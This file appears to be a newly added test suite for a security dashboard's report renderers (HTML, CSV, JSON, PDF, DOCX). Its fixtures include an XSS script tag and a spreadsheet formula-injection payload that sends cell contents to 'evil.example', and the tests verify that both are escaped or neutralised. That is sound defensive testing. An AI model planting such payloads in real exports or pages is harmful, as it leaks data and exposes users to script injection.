@@ -1,0 +1,303 @@
+import { expect } from 'chai';
+import { unzipSync, strFromU8 } from 'fflate';
+import { ReportIssue, ReportSnapshot } from '../src/domain/snapshot';
+import { REPORT_FORMATS } from '@bulwark/contracts';
+import { renderReport, reportFileType } from '../src/render';
+import { renderPdf } from '../src/render/pdf';
+
+const XSS_TITLE = 'Stored XSS: <script>alert(1)</script> & "quotes" in \'comments\'';
+const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+const COMMA_PATH = 'src/views/user,profile.tsx';
+const CONFIRMED = 'Подтверждена';
+
+const issue = (overrides: Partial<ReportIssue>): ReportIssue => ({
+  id: '0b5a2a64-6f62-4a47-9d34-3f1f0a0c0001',
+  project_code: 'WEBSHOP',
+  tool_name: 'semgrep',
+  category: 'SAST',
+  title: 'Issue',
+  severity: 'medium',
+  status: 'New',
+  cve: null,
+  cwes: [],
+  file_path: null,
+  start_line: null,
+  lib_name: null,
+  lib_version: null,
+  cvss: null,
+  first_detected_at: '2025-02-03T10:15:00.000Z',
+  last_detected_at: '2025-03-30T08:00:00.000Z',
+  ...overrides,
+});
+
+const snapshot: ReportSnapshot = {
+  report: {
+    id: '7d1e8c1c-1111-4c1e-9a55-000000000042',
+    name: 'Quarterly security summary',
+    type: 'summary',
+    author: 'alice@example.com',
+    created_at: '2025-04-01T00:00:00.000Z',
+    generated_at: '2025-04-01T00:04:30.000Z',
+    period: 'quarter',
+    from: '2025-01-01T00:00:00.000Z',
+    to: '2025-04-01T00:00:00.000Z',
+    project_codes: ['WEBSHOP', 'BILLING-API'],
+  },
+  totals: {
+    issues: 1234,
+    open: 57,
+    by_severity: { critical: 3, high: 17, medium: 400, low: 800, info: 14 },
+    by_status: [
+      { status_id: 1, name: 'New', count: 40 },
+      { status_id: 2, name: CONFIRMED, count: 17 },
+      { status_id: 3, name: 'Fixed', count: 1177 },
+    ],
+  },
+  projects: [
+    { project_code: 'WEBSHOP', total: 1000, open: 50, open_by_severity: { critical: 3, high: 15, medium: 20, low: 10, info: 2 } },
+    { project_code: 'BILLING-API', total: 234, open: 7, open_by_severity: { critical: 0, high: 2, medium: 5, low: 0, info: 0 } },
+  ],
+  tools: [
+    { tool_name: 'semgrep', category: 'SAST', total: 900, open: 30 },
+    { tool_name: 'trivy', category: 'SCA', total: 334, open: 27 },
+  ],
+  top_issues: [
+    issue({
+      id: '0b5a2a64-6f62-4a47-9d34-3f1f0a0c0002', severity: 'critical', title: XSS_TITLE, status: CONFIRMED,
+      cwes: [79, 89], file_path: COMMA_PATH, start_line: 42, cvss: 9.8,
+    }),
+    issue({
+      id: '0b5a2a64-6f62-4a47-9d34-3f1f0a0c0003', project_code: 'BILLING-API', tool_name: 'trivy', category: 'SCA',
+      severity: 'high', title: FORMULA_TITLE, cve: 'CVE-2021-44228', cwes: [502], lib_name: 'log4j-core', lib_version: '2.14.1', cvss: 10,
+    }),
+    issue({ id: '0b5a2a64-6f62-4a47-9d34-3f1f0a0c0004', title: 'Secret in history\r\nsecond line', severity: 'low', status: '-1 day' }),
+  ],
+  top_issues_limit: 3,
+};
+
+/** An RFC 4180 reader, so the test checks what a spreadsheet would actually see. */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i]!;
+    if (quoted) {
+      if (char === '"' && text[i + 1] === '"') { field += '"'; i++; }
+      else if (char === '"') quoted = false;
+      else field += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ',') { record.push(field); field = ''; }
+    else if (char === '\r' && text[i + 1] === '\n') { record.push(field); records.push(record); record = []; field = ''; i++; }
+    else if (char === '\r' || char === '\n') throw new Error(`bare line break outside quotes at ${i}`);
+    else field += char;
+  }
+  if (field !== '' || record.length > 0) throw new Error('last record not ended by CRLF');
+  return records;
+}
+
+/**
+ * The text PDFKit draws with the standard fonts: each line is a TJ array of WinAnsi hex strings,
+ * split wherever kerning shifts a glyph, so the pieces of one array are joined again.
+ */
+function pdfText(pdf: Buffer): string[] {
+  const source = pdf.toString('latin1');
+  return [...source.matchAll(/\[((?:<[0-9a-f]*>\s*-?[\d.]*\s*)*)\]\s*TJ/g)].map((match) =>
+    [...match[1]!.matchAll(/<([0-9a-f]*)>/g)].map((hex) => Buffer.from(hex[1]!, 'hex').toString('latin1')).join(''),
+  );
+}
+
+describe('report renderers', () => {
+  it('renders every format with its content type and extension', async () => {
+    const expected = {
+      html: 'text/html; charset=utf-8',
+      csv: 'text/csv; charset=utf-8',
+      json: 'application/json; charset=utf-8',
+      pdf: 'application/pdf',
+      docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+    };
+    for (const format of REPORT_FORMATS) {
+      const rendered = await renderReport(snapshot, format);
+      expect(rendered.contentType, format).to.equal(expected[format]);
+      expect(rendered.extension, format).to.equal(format);
+      expect(rendered.body.length, format).to.be.greaterThan(0);
+      expect(reportFileType(format)).to.deep.equal({ contentType: expected[format], extension: format });
+    }
+  });
+
+  it('renders a report with nothing in it', async () => {
+    const zero = { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
+    const empty: ReportSnapshot = {
+      report: { ...snapshot.report, period: 'all', from: null, project_codes: [] },
+      totals: { issues: 0, open: 0, by_severity: zero, by_status: [] },
+      projects: [], tools: [], top_issues: [], top_issues_limit: 50,
+    };
+    const html = (await renderReport(empty, 'html')).body.toString('utf8');
+    expect(html).to.include('<dd>all (until 2025-04-01 00:00 UTC)</dd>');
+    expect(html).to.include('<dd>All projects visible to the author</dd>');
+    expect(html).to.include('<p class="empty">No open issues.</p>');
+    expect((await renderReport(empty, 'csv')).body.toString('utf8').split('\r\n')).to.have.length(2);
+    expect(pdfText(await renderPdf(empty, { compress: false }))).to.include('No projects.');
+    const xml = strFromU8(unzipSync(new Uint8Array((await renderReport(empty, 'docx')).body))['word/document.xml']!);
+    expect(xml).to.include('No tools.');
+  });
+
+  it('refuses a name that is not a format', async () => {
+    let failure: unknown;
+    await renderReport(snapshot, 'toString' as never).catch((error: unknown) => { failure = error; });
+    expect(failure).to.be.instanceOf(Error).with.property('message', 'unknown report format: toString');
+    expect(() => reportFileType('constructor' as never)).to.throw('unknown report format: constructor');
+  });
+
+  describe('json', () => {
+    it('is the snapshot itself, indented by two spaces', async () => {
+      const text = (await renderReport(snapshot, 'json')).body.toString('utf8');
+      expect(JSON.parse(text)).to.deep.equal(snapshot);
+      expect(text).to.match(/^\{\n {2}"report": \{\n {4}"id": /);
+    });
+  });
+
+  describe('csv', () => {
+    let text: string;
+    let records: string[][];
+    before(async () => {
+      text = (await renderReport(snapshot, 'csv')).body.toString('utf8');
+      records = parseCsv(text);
+    });
+
+    it('has the header and one row per top issue, CRLF-terminated and without a BOM', () => {
+      expect(text.startsWith('id,project_code,tool_name,category,severity,status,title,cve,cwes,file_path,start_line,'
+        + 'lib_name,lib_version,cvss,first_detected_at,last_detected_at\r\n')).to.equal(true);
+      expect(records).to.have.length(snapshot.top_issues.length + 1);
+      for (const record of records) expect(record).to.have.length(16);
+    });
+
+    it('quotes fields with commas, quotes and line breaks, doubling the quotes', () => {
+      expect(text).to.include(`,"${COMMA_PATH}",42,`);
+      expect(text).to.include('"Stored XSS: <script>alert(1)</script> & ""quotes"" in \'comments\'"');
+      const [, xss, , secret] = records;
+      expect(xss![6]).to.equal(XSS_TITLE);
+      expect(xss![9]).to.equal(COMMA_PATH);
+      expect(secret![6]).to.equal('Secret in history\r\nsecond line');
+    });
+
+    it('keeps a spreadsheet from running cells as formulas, but leaves numbers alone', () => {
+      const [, xss, formula, secret] = records;
+      expect(formula![6]).to.equal(`'${FORMULA_TITLE}`);
+      expect(secret![5]).to.equal("'-1 day");
+      expect(xss![5]).to.equal(CONFIRMED);
+      expect(xss![13]).to.equal('9.8');
+      expect(formula![13]).to.equal('10');
+      expect(xss![10]).to.equal('42');
+      expect(formula![10]).to.equal('');
+      expect(secret![13]).to.equal('');
+    });
+
+    it('writes CWEs, CVEs and nulls as plain values', () => {
+      const [, xss, formula] = records;
+      expect(xss![8]).to.equal('CWE-79;CWE-89');
+      expect(xss![7]).to.equal('');
+      expect(formula!.slice(7, 13)).to.deep.equal(['CVE-2021-44228', 'CWE-502', '', '', 'log4j-core', '2.14.1']);
+      expect(formula![14]).to.equal('2025-02-03T10:15:00.000Z');
+    });
+  });
+
+  describe('html', () => {
+    let html: string;
+    before(async () => {
+      html = (await renderReport(snapshot, 'html')).body.toString('utf8');
+    });
+
+    it('escapes text from the snapshot', () => {
+      expect(html).to.include('Stored XSS: &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quotes&quot; in &#39;comments&#39;');
+      expect(html).not.to.include('<script>alert');
+      expect(html).not.to.match(/<script/i);
+    });
+
+    it('is one document that loads nothing from elsewhere', () => {
+      expect(html.startsWith('<!DOCTYPE html>')).to.equal(true);
+      expect(html).to.include('<title>Quarterly security summary</title>');
+      expect(html).not.to.match(/\b(src|href)=/i);
+      expect(html).not.to.match(/url\(/i);
+    });
+
+    it('shows the header, totals, every project and the issues', () => {
+      for (const code of ['WEBSHOP', 'BILLING-API']) expect(html).to.include(`<td>${code}</td>`);
+      expect(html).to.include('<span class="value">1,234</span><span class="label">Issues</span>');
+      expect(html).to.include('<span class="value">57</span><span class="label">Open</span>');
+      expect(html).to.include('<dd>quarter (2025-01-01 00:00 UTC – 2025-04-01 00:00 UTC)</dd>');
+      expect(html).to.include('<dd>alice@example.com</dd>');
+      expect(html).to.include(`<td>${CONFIRMED}</td>`);
+      expect(html).to.include('<td>src/views/user,profile.tsx:42</td>');
+      expect(html).to.include('<td>log4j-core@2.14.1</td>');
+      expect(html).to.include('<td>CWE-79, CWE-89</td>');
+      expect(html).to.include('<td class="number">9.8</td>');
+      expect(html).to.include('3 of 57 open issues listed');
+    });
+
+    it('leaves out the listed-issues line when every open issue is listed', async () => {
+      const complete = { ...snapshot, totals: { ...snapshot.totals, open: snapshot.top_issues.length } };
+      const text = (await renderReport(complete, 'html')).body.toString('utf8');
+      expect(text).not.to.include('open issues listed');
+    });
+  });
+
+  describe('pdf', () => {
+    it('is a complete PDF document', async () => {
+      const pdf = (await renderReport(snapshot, 'pdf')).body;
+      expect(pdf.subarray(0, 5).toString('latin1')).to.equal('%PDF-');
+      expect(pdf.subarray(-7).toString('latin1')).to.match(/%%EOF\n?$/);
+      // Compressed, so the page text is not readable as it stands.
+      expect(pdfText(pdf)).to.deep.equal([]);
+    });
+
+    it('draws the report as text', async () => {
+      const lines = pdfText(await renderPdf(snapshot, { compress: false }));
+      expect(lines).to.include('Quarterly security summary');
+      expect(lines).to.include('BILLING-API');
+      expect(lines).to.include('Issues: 1,234');
+      expect(lines).to.include('3 of 57 open issues listed');
+      expect(lines.some((line) => /^Page 1 of \d+$/.test(line))).to.equal(true);
+      expect(lines).to.include('log4j-core@2.14.1');
+    });
+
+    it('replaces what the standard fonts cannot show and cuts long text with an ellipsis', async () => {
+      const lines = pdfText(await renderPdf(snapshot, { compress: false }));
+      // The en dash is WinAnsi 0x96; Cyrillic has no code there.
+      expect(lines).to.include('quarter (2025-01-01 00:00 UTC \x96 2025-04-01 00:00 UTC)');
+      expect(lines).to.include('?'.repeat(CONFIRMED.length));
+      const xssCell = lines.find((line) => line.startsWith('Stored XSS: <script>'));
+      expect(xssCell).to.match(/\x85$/);
+      expect(xssCell!.length).to.be.lessThan(XSS_TITLE.length);
+      expect(lines).to.include('Secret in history second line');
+    });
+
+    it('adds pages for long tables and numbers them', async () => {
+      const many = Array.from({ length: 120 }, (_, index) => issue({ id: `issue-${index}`, title: `Finding number ${index}` }));
+      const lines = pdfText(await renderPdf({ ...snapshot, top_issues: many }, { compress: false }));
+      const pageCount = lines.filter((line) => /^Page \d+ of \d+$/.test(line)).length;
+      expect(pageCount).to.be.greaterThan(2);
+      expect(lines).to.include(`Page ${pageCount} of ${pageCount}`);
+      expect(lines).to.include('Finding number 119');
+      // The column headers are repeated on every page the issue table runs onto.
+      expect(lines.filter((line) => line === 'First detected').length).to.be.greaterThan(1);
+    });
+  });
+
+  describe('docx', () => {
+    it('is a Word document holding the report', async () => {
+      const docx = (await renderReport(snapshot, 'docx')).body;
+      expect(docx.subarray(0, 2).toString('latin1')).to.equal('PK');
+      const files = unzipSync(new Uint8Array(docx));
+      const xml = strFromU8(files['word/document.xml']!);
+      expect(xml).to.include('Quarterly security summary');
+      expect(xml).to.include('BILLING-API');
+      expect(xml).to.include('Stored XSS: &lt;script&gt;alert(1)&lt;/script&gt; &amp;');
+      expect(xml).not.to.include('<script>');
+      expect(xml).to.include(CONFIRMED);
+      expect(xml).to.include('3 of 57 open issues listed');
+      expect(xml).to.match(/<w:pgSz [^>]*w:orient="landscape"/);
+    });
+  });
+});
